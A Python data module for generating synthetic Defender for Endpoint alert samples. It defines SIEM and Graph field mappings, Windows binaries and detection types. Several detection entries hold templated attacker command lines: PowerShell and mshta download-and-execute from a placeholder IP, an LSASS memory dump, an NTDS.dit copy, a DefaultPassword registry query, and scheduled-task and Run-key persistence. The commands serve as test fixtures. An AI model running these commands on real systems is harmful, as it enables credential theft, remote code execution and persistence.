"""Static facts of the sample: CSV columns, field lists, the detection types and system binaries."""

from __future__ import annotations

import functools
import uuid
from typing import NamedTuple

# The 50 keys of a SIEM API record, in the docs example's order and the payloads' spelling.
LEGACY_COLUMNS: tuple[str, ...] = (
    "AlertTime", "ComputerDnsName", "AlertTitle", "Category", "Severity", "AlertId", "Actor",
    "LinkToWDATP", "IocName", "IocValue", "CreatorIocName", "CreatorIocValue", "Sha1", "FileName",
    "FilePath", "IpAddress", "Url", "IoaDefinitionId", "UserName", "AlertPart", "FullId",
    "LastProcessedTimeUtc", "ThreatCategory", "ThreatFamily", "ThreatName", "RemediationAction",
    "RemediationIsSuccess", "Source", "Md5", "Sha256", "WasExecutingWhileDetected", "UserDomain",
    "LogOnUsers", "MachineDomain", "MachineName", "InternalIPv4List", "InternalIPv6List",
    "FileHash", "DeviceID", "MachineGroup", "Description", "DeviceCreatedMachineTags",
    "CloudCreatedMachineTags", "CommandLine", "IncidentLinkToWDATP", "ReportID", "LinkToMTP",
    "IncidentLinkToMTP", "ExternalId", "IocUniqueId",
)  # fmt: skip
# Columns the SIEM added on ingestion; they map to no SIEM field.
EXTRA_COLUMNS: tuple[str, ...] = ("SplunkIndex", "ingest_host")
CSV_COLUMNS: tuple[str, ...] = LEGACY_COLUMNS + EXTRA_COLUMNS

# Mapping-table field name (mapping/fields.yaml `siem_field`) -> the CSV column carrying it.
_RENAMED = {
    "IPAddress": "IpAddress",
    "URL": "Url",
    "ThreatFamilyName": "ThreatFamily",
    "InternalIPV4List": "InternalIPv4List",
    "InternalIPV6List": "InternalIPv6List",
    "ReportId": "ReportID",
}
_BY_COLUMN = {column: field for field, column in _RENAMED.items()}
FIELD_COLUMNS: dict[str, str] = {_BY_COLUMN.get(c, c): c for c in LEGACY_COLUMNS}

# Fields with no Graph equivalent (status unsupported/obsolete in the mapping).
DROPPED_FIELDS: tuple[str, ...] = (
    "IocName", "IocValue", "CreatorIocName", "CreatorIocValue", "AlertPart", "FullId", "Md5",
    "InternalIPV4List", "InternalIPV6List", "ReportId", "ExternalId", "IocUniqueId",
)  # fmt: skip
COMPARED_FIELDS: tuple[str, ...] = tuple(f for f in FIELD_COLUMNS if f not in DROPPED_FIELDS)

# Graph-side presence groups: which compared fields an evidence item gives values to.
ALERT_LEVEL = frozenset(
    {
        "AlertTime", "AlertTitle", "Category", "Severity", "AlertId", "LinkToWDATP", "LinkToMTP",
        "IoaDefinitionId", "LastProcessedTimeUtc", "Source", "Description",
        "IncidentLinkToWDATP", "IncidentLinkToMTP",
    }
)  # fmt: skip
REMEDIATION = frozenset({"RemediationAction", "RemediationIsSuccess"})
DEVICE = frozenset({"ComputerDnsName", "MachineDomain", "MachineName", "DeviceID"}) | REMEDIATION
FILE = frozenset({"Sha1", "FileName", "FilePath", "Sha256", "FileHash"}) | REMEDIATION
USER = frozenset({"UserName", "UserDomain"}) | REMEDIATION
PROCESS = FILE | USER | {"CommandLine", "WasExecutingWhileDetected"}  # with its userAccount
IP = frozenset({"IPAddress"}) | REMEDIATION
URL = frozenset({"URL"}) | REMEDIATION


class Binary(NamedTuple):
    """A well-known executable: file name, folder, publisher."""

    name: str
    folder: str
    publisher: str


_SYS32 = "C:\\Windows\\System32"
BINARIES: dict[str, Binary] = {
    "powershell": Binary(
        "powershell.exe", _SYS32 + "\\WindowsPowerShell\\v1.0", "Microsoft Corporation"
    ),
    "reg": Binary("reg.exe", _SYS32, "Microsoft Corporation"),
    "rundll32": Binary("rundll32.exe", _SYS32, "Microsoft Corporation"),
    "ntdsutil": Binary("ntdsutil.exe", _SYS32, "Microsoft Corporation"),
    "schtasks": Binary("schtasks.exe", _SYS32, "Microsoft Corporation"),
    "wmic": Binary("WMIC.exe", _SYS32 + "\\wbem", "Microsoft Corporation"),
    "winword": Binary(
        "WINWORD.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16",
        "Microsoft Corporation",
    ),
    "msedge": Binary(
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
        "Microsoft Corporation",
    ),
    "cmd": Binary("cmd.exe", _SYS32, "Microsoft Corporation"),
    "mshta": Binary("mshta.exe", _SYS32, "Microsoft Corporation"),
    "explorer": Binary("explorer.exe", "C:\\Windows", "Microsoft Corporation"),
    "services": Binary("services.exe", _SYS32, "Microsoft Corporation"),
    "svchost": Binary("svchost.exe", _SYS32, "Microsoft Corporation"),
}


class DetectionType(NamedTuple):
    """One kind of MDE detection, with both APIs' view of its alert-level values.

    ``kind`` drives the entities: process (image + command line), registry (process + key),
    network (process + IPs/URLs), file (a file, no command line), url (SmartScreen), customti
    (a custom network indicator hit), air (automated investigation).
    """

    key: str
    title: str
    siem_category: str
    graph_category: str
    severity: str
    source: str
    kind: str
    weight: int
    image: str = ""
    command: str = ""
    description: str = ""
    mitre: tuple[str, ...] = ()
    threat: tuple[str, str, str] = ("", "", "")  # ThreatName, ThreatFamily, ThreatCategory
    detector_id: str = ""
    actor: str = ""
    prevented: bool = False

    @property
    def detector(self) -> str:
        """The IoaDefinitionId / detectorId: real where known, else a stable made-up GUID."""
        return self.detector_id or made_up_guid(self.key)


@functools.cache
def made_up_guid(name: str) -> str:
    """A stable GUID for a detector Microsoft's samples do not show."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"siem2graph/{name}"))


GRAPH_DETECTION_SOURCE = {
    "EDR": "microsoftDefenderForEndpoint",
    "Antivirus": "antivirus",
    "SmartScreen": "smartScreen",
    "CustomTI": "customTi",
    "AutomatedInvestigation": "automatedInvestigation",
}
SEVERITY_CHANGE = {"Informational": "low", "Low": "medium", "Medium": "high", "High": "medium"}

_PS_DESC = (
    "A suspicious Powershell commandline was found on the machine. This commandline might be used "
    "during installation, exploration, or in some cases with lateral movement activities which are "
    "used by attackers to invoke modules, download external payloads, and get more information "
    "about the system. Attackers usually use Powershell to bypass security protection mechanisms "
    "by executing their payload in memory without touching the disk and leaving any trace.\r\n"
    "The process powershell.exe was executing suspicious commandline \r\n{cmd}"
)
_AV_DESC = (
    "Malware and unwanted software are undesirable applications that perform annoying, disruptive, "
    "or harmful actions on affected machines.\r\nThis detection might indicate that the malware "
    "was stopped from delivering its payload. However, it is prudent to check the machine for "
    "signs of infection.\r\nThreat: {threat}\r\nFile: {file}"
)
_TEMP = "C:\\Users\\{user}\\AppData\\Local\\Temp"

DETECTION_TYPES: tuple[DetectionType, ...] = (
    DetectionType(
        "ps", "Suspicious PowerShell command line", "SuspiciousActivity", "Execution", "Medium",
        "EDR", "network", 12, "powershell",
        "powershell.exe  -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden "
        "(New-Object System.Net.WebClient).DownloadFile('http://{ip}/{n}.exe', "
        "'" + _TEMP + "\\{name}.exe'); Start-Process '" + _TEMP + "\\{name}.exe'",
        _PS_DESC, ("T1059.001", "T1105"), detector_id="7f1c3609-a3ff-40e2-995b-c01770161d68",
    ),
    DetectionType(
        "lookup", "Sensitive information lookup", "LateralMovement", "Discovery", "Medium", "EDR",
        "registry", 8, "reg",
        'reg.exe query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" '
        "/v DefaultPassword",
        "Unusual behavior of sensitive information lookup", ("T1012", "T1552.002"),
        detector_id="4a89c39f-47b5-4ad6-8b48-7d1b0afd9493",
    ),
    DetectionType(
        "hidden", "Suspicious execution of hidden file", "SuspiciousActivity", "DefenseEvasion",
        "Low", "EDR", "process", 6, "cmd",
        'cmd.exe /c start "" "C:\\ProgramData\\{name}\\{name}.exe" --silent, --update',
        "A hidden file has been launched. This activity could indicate a compromised host. "
        "Attackers often hide files associated with malicious tools to evade file system "
        "inspection and defenses.",
        ("T1564.001",), detector_id="e0da400f-affd-43ef-b1d5-afc2eb6f2756",
    ),
    DetectionType(
        "lsass", "Suspicious access to LSASS service", "CredentialAccess", "CredentialAccess",
        "High", "EDR", "process", 5, "rundll32",
        '"rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} '
        "C:\\Users\\Public\\{name}.dmp full",
        "A process accessed the memory of the Local Security Authority Subsystem Service "
        "(LSASS).\r\nAttackers read LSASS memory to steal credentials.\r\nCommand line: {cmd}",
        ("T1003.001",),
    ),
    DetectionType(
        "ntds", "Suspicious credential dump from NTDS.dit", "CredentialAccess", "CredentialAccess",
        "High", "EDR", "process", 2, "ntdsutil",
        'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{name}" q q',
        "A copy of the Active Directory database (NTDS.dit) was created, possibly to extract "
        "credentials offline.",
        ("T1003.003",),
    ),
    DetectionType(
        "schtask", "Suspicious Task Scheduler activity", "Persistence", "Persistence", "Medium",
        "EDR", "process", 6, "schtasks",
        'schtasks.exe /create /tn "Microsoft\\Windows\\Update\\{name}" '
        '/tr "C:\\ProgramData\\{name}.exe, /quiet" /sc onlogon /ru SYSTEM /f',
        "A scheduled task was created or modified in a way often used to keep malware running.",
        ("T1053.005",),
    ),
    DetectionType(
        "asep", "Anomaly detected in ASEP registry", "Persistence", "Persistence", "Low", "EDR",
        "registry", 5, "reg",
        'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v {name} '
        '/t REG_SZ /d "C:\\Users\\{user}\\AppData\\Roaming\\{name}.exe" /f',
        "A process registered a suspicious command or file in an auto-start extensibility point "
        "(ASEP) registry key.",
        ("T1547.001",),
    ),
    DetectionType(
        "wmi", "Suspicious WMI process creation", "Execution", "Execution", "Medium", "EDR",
        "process", 4, "wmic",
        'WMIC.exe /node:"{ip}" process call create "cmd.exe /c C:\\ProgramData\\{name}.bat"',
        "A process was created through Windows Management Instrumentation (WMI), a technique "
        "attackers use to run code remotely.",
        ("T1047",),
    ),
    DetectionType(
        "office", "Suspicious behavior by Office application", "Exploit", "InitialAccess",
        "Medium", "EDR", "process", 4, "winword",
        '"WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\Invoice_{n}.docm" /o ""',
        "An Office application showed unusual behavior, such as spawning a script host, which "
        "may indicate a malicious document.",
        ("T1566.001", "T1204.002"),
    ),
    DetectionType(
        "c2", "Suspicious network communication", "CommandAndControl", "CommandAndControl",
        "Medium", "EDR", "network", 4, "rundll32",
        '"rundll32.exe" C:\\ProgramData\\{name}.dll,DllRegisterServer',
        "A process communicated with a remote host in a way commonly used for command and "
        "control.",
        ("T1071.001",),
    ),
    DetectionType(
        "ransom", "Ransomware behavior detected in the file system", "Ransomware", "Impact",
        "High", "EDR", "process", 2, "cmd",
        'cmd.exe /c "C:\\Users\\Public\\{name}.exe" --encrypt C:\\,D:\\ --note README.txt',
        "A process encrypted many files and dropped ransom notes.\r\nCommand line: {cmd}",
        ("T1486",),
    ),
    DetectionType(
        "mshta", "Suspicious mshta process launched", "SuspiciousActivity", "DefenseEvasion",
        "Medium", "EDR", "network", 3, "mshta",
        'mshta.exe "javascript:a=GetObject(\'script:http://{ip}/{n}.sct\').Exec();close()"',
        "mshta.exe ran a remote script, a technique used to bypass application control.",
        ("T1218.005",),
    ),
    DetectionType(
        "boron", "BORON activity group detected", "Malware", "Execution", "High", "EDR",
        "process", 1, "powershell",
        'powershell.exe -nop -w hidden -c "IEX (iwr http://{ip}/{n}.ps1 -UseBasicParsing)"',
        "Activity associated with the BORON activity group was observed on this machine.",
        ("T1059.001",), actor="BORON",
    ),
    DetectionType(
        "mikatz", "'Mikatz' high-severity malware was detected", "Malware", "CredentialAccess",
        "High", "Antivirus", "file", 4, description=_AV_DESC, mitre=("T1003",),
        threat=("HackTool:Win32/Mikatz!dha", "Mikatz", "HackTool"),
    ),
    DetectionType(
        "wacatac", "'Wacatac' malware was prevented", "Malware", "Malware", "Low", "Antivirus",
        "file", 6, description=_AV_DESC, threat=("Trojan:Win32/Wacatac.B!ml", "Wacatac", "Trojan"),
        prevented=True,
    ),
    DetectionType(
        "emotet", "'Emotet' malware was detected", "Malware", "Execution", "High", "Antivirus",
        "file", 3, description=_AV_DESC,
        threat=("Trojan:Win32/Emotet.PAA!MTB", "Emotet", "Trojan"),
    ),
    DetectionType(
        "eicar", "'EICAR_Test_File' malware was prevented", "Malware", "Malware", "Informational",
        "Antivirus", "file", 3, description=_AV_DESC,
        threat=("Virus:DOS/EICAR_Test_File", "EICAR_Test_File", "Virus"), prevented=True,
    ),
    DetectionType(
        "bladabindi", "'Bladabindi' backdoor was prevented", "Malware", "CommandAndControl",
        "Medium", "Antivirus", "file", 2, description=_AV_DESC,
        threat=("Backdoor:MSIL/Bladabindi", "Bladabindi", "Backdoor"), prevented=True,
    ),
    DetectionType(
        "coinminer", "'CoinMiner' unwanted software was detected", "UnwantedSoftware", "Impact",
        "Low", "Antivirus", "file", 3, description=_AV_DESC,
        threat=("PUA:Win32/CoinMiner", "CoinMiner", "PUA"),
    ),
    DetectionType(
        "ssurl", "SmartScreen URL warning", "SuspiciousActivity", "InitialAccess",
        "Informational", "SmartScreen", "url", 4, "msedge",
        description="Microsoft Defender SmartScreen warned the user about a potentially "
        "malicious website.",
        mitre=("T1189",),
    ),
    DetectionType(
        "customti", "Connection to a custom network indicator", "SuspiciousActivity",
        "CommandAndControl", "Medium", "CustomTI", "customti", 3, "powershell",
        description="A process connected to an IP address or URL listed as a custom indicator "
        "by your organization.",
        mitre=("T1071",),
    ),
    DetectionType(
        "air", "Malicious file remediated by automated investigation", "Malware", "Execution",
        "Medium", "AutomatedInvestigation", "air", 1, description=_AV_DESC,
        threat=("Trojan:Win32/Wacatac.B!ml", "Wacatac", "Trojan"), prevented=True,
    ),
)  # fmt: skip
